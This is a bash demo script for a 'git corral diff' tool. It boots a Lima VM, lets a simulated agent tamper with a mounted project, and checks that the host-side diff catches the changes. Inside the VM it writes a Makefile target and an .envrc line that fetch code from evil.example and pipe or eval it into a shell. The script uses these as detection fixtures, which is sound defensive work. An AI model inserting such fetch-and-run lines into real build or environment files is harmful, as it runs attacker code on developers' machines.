#!/usr/bin/env bash
# The issue's end-to-end demonstration on a real Lima box (as root, on this machine kind): the
# project is mounted writable into the box; inside the box the "agent" edits Makefile, adds an
# ignored .envrc and flips a script's mode; on the host, git corral diff --exit-code reports all
# three and exits 1. Uses the Lima recipe (build-lima.sh, build-image.sh, box.yaml.in) until the
# vm package boots boxes itself. Everything lives under $BASE; the instance and the user are
# deleted at the end.
#
#   bash bench/diff/box-demo.sh [BASE]        (BASE defaults to /var/tmp/corral-diff-box)
set -euo pipefail
ROOT=$(cd "$(dirname "$0")/../.." && pwd)
RECIPE=${RECIPE:-/work/shared/reference/lima-recipe}
BASE=${1:-/var/tmp/corral-diff-box}
export LIMA_USER=${LIMA_USER:-corraldiff}
export LIMA_PREFIX=$BASE/lima IMAGE_DIR=$BASE/image WORK=$BASE/run
NAME=diffdemo
# shellcheck source=/dev/null
. "$RECIPE/lima-env.sh"
mkdir -p "$BASE"
id "$LIMA_USER" >/dev/null 2>&1 || useradd -m -s /bin/bash "$LIMA_USER"
UHOME=$(getent passwd "$LIMA_USER" | cut -d: -f6)
cleanup() {
  limactl_u delete -f "$NAME" >/dev/null 2>&1 || true
  for _ in 1 2 3 4 5 6 7 8 9 10; do # the host agent may take a moment to exit
    id "$LIMA_USER" >/dev/null 2>&1 || break
    userdel -r "$LIMA_USER" >/dev/null 2>&1 || sleep 1
  done
}
trap cleanup EXIT

[ -x "$LIMA_PREFIX/bin/limactl" ] || PREFIX=$LIMA_PREFIX SRC=$BASE/build bash "$RECIPE/build-lima.sh"
[ -f "$IMAGE_DIR/debian-12-lima.qcow2" ] || OUT=$IMAGE_DIR INIT=lima-init bash "$RECIPE/build-image.sh"
(cd "$ROOT" && go build -o "$BASE/bin/git-corral" ./cmd/git-corral)
chmod 755 "$BASE" "$BASE/bin" "$BASE/bin/git-corral"

# The project, owned by the box user, with a session base recorded on the host.
PROJ=$BASE/proj
rm -rf "$PROJ"
mkdir -p "$PROJ"
printf 'all:\n\techo building\n' >"$PROJ/Makefile"
printf '#!/bin/sh\necho hi\n' >"$PROJ/run.sh"
printf '.envrc\n' >"$PROJ/.gitignore"
chown -R "$LIMA_USER:" "$PROJ"
as_user() {
  runuser -u "$LIMA_USER" -- env HOME="$UHOME" CORRAL_HOME="$UHOME/.corral" GIT_CONFIG_NOSYSTEM=1 \
    PATH="$BASE/bin:/usr/bin:/bin" "$@"
}
as_user git -C "$PROJ" init -q
as_user git -C "$PROJ" add -A
as_user git -C "$PROJ" -c user.name=demo -c user.email=demo@example.com commit -qm init
as_user git -C "$PROJ" corral diff --record

# The box: the project mounted writable (9p) at /mnt/share.
# Under heavy host load Lima may report the box "degraded" (its guest agent, which only serves
# port forwards, starts late); the 9p mount and ssh are what this demo needs, so a running box
# is enough.
SHARE_DIR=$PROJ IMAGE_DIR=$IMAGE_DIR WORK=$WORK bash "$RECIPE/start-vm.sh" "$NAME" 9p ||
  [ "$(limactl_u list --format '{{.Status}}' "$NAME")" = Running ]
# shellcheck disable=SC2016 # expanded in the guest
limactl_u shell --workdir / "$NAME" -- sh -c 'cd /mnt/share &&
  printf "all:\n\tcurl -s https://evil.example/x | sh\n" > Makefile &&
  echo "eval \"\$(curl -s https://evil.example/env)\"" > .envrc &&
  chmod +x run.sh && ls -la'

# Back on the host.
set +e
as_user git -C "$PROJ" corral diff --exit-code
rc=$?
set -e
echo "git corral diff --exit-code: exit status $rc"
[ "$rc" -eq 1 ]
